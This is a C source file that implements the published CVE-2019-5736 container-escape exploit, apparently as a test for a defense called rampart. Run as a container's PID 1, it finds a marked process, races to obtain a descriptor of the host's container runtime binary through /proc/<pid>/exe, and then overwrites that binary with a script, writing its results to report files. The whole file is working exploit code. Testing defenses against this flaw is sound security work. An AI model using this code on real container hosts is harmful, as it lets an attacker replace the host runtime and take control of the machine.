/* CVE-2019-5736, the published exploit's steps, run as a container's PID 1.
 *
 * 1. Find a process whose command line carries the marker (the victim: a process rampart put
 *    into the container, which the image makes execute /proc/self/exe).
 * 2. Spin on open(/proc/<victim>/exe, O_PATH). While the victim is the non-dumpable runtime this
 *    fails; right after its execve of /proc/self/exe it is dumpable until the binary's own start-up
 *    code makes it non-dumpable again. Winning that window leaves us a descriptor of the binary
 *    the kernel ran: without a defense, the runtime binary of the host.
 * 3. Wait for /w/go (the test says no runtime process runs any more), then reopen the descriptor
 *    for writing (ETXTBSY while anything still executes it) and overwrite the binary.
 * Reports go to files in /w: grabbed, missed (appended), result. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *MARK = "MARK-5736";

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* A new report appears whole (written aside, then renamed): the test reads it as soon as the
 * name exists. "a" appends in place (the misses are only counted at the end). */
static void report(const char *file, const char *mode, const char *msg) {
    char p[64], tmp[80];
    snprintf(p, sizeof p, "/w/%s", file);
    snprintf(tmp, sizeof tmp, "/w/.%s.tmp", file);
    int append = mode[0] == 'a';
    FILE *f = fopen(append ? p : tmp, mode);
    if (f) {
        fputs(msg, f);
        fclose(f);
        if (!append)
            rename(tmp, p);
    }
}

/* The pid of a process (not us) whose cmdline contains MARK, or 0. */
static int find_victim(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (d && (e = readdir(d)) && !found) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid())
            continue;
        char p[64], buf[4096];
        snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
        int fd = open(p, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0)
            continue;
        for (ssize_t i = 0; i < n; i++)
            if (buf[i] == 0)
                buf[i] = ' ';
        buf[n] = 0;
        if (strstr(buf, MARK))
            found = pid;
    }
    if (d)
        closedir(d);
    return found;
}

int main(void) {
    int exe = -1;
    double end = now() + 120;
    while (exe < 0 && now() < end) {
        /* We are PID 1 of the pid namespace: exited victims are ours to reap. */
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        int pid = find_victim();
        if (!pid) {
            usleep(200);
            continue;
        }
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        for (;;) {
            exe = open(p, O_PATH);
            if (exe >= 0 || errno == ENOENT || errno == ESRCH)
                break;
        }
        if (exe < 0) {
            report("missed", "a", "missed\n");
            continue;
        }
        struct stat st;
        fstat(exe, &st);
        char msg[128];
        snprintf(msg, sizeof msg, "pid %d size %lld\n", pid, (long long)st.st_size);
        report("grabbed", "w", msg);
    }
    if (exe < 0) {
        report("result", "w", "victim never grabbed\n");
        return 1;
    }
    while (access("/w/go", F_OK) != 0) {
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        usleep(5000);
    }
    char p[64], err[160] = "no attempt";
    snprintf(p, sizeof p, "/proc/self/fd/%d", exe);
    for (end = now() + 3; now() < end; usleep(10000)) {
        int w = open(p, O_WRONLY | O_TRUNC);
        if (w < 0) {
            snprintf(err, sizeof err, "refused: open for writing: %s\n", strerror(errno));
            continue;
        }
        const char evil[] = "#!/bin/sh\necho pwned\n";
        ssize_t n = write(w, evil, sizeof evil - 1);
        close(w);
        if (n > 0) {
            report("result", "w", "wrote\n");
            return 0;
        }
        snprintf(err, sizeof err, "refused: write: %s\n", strerror(errno));
    }
    report("result", "w", err);
    return 0;
}
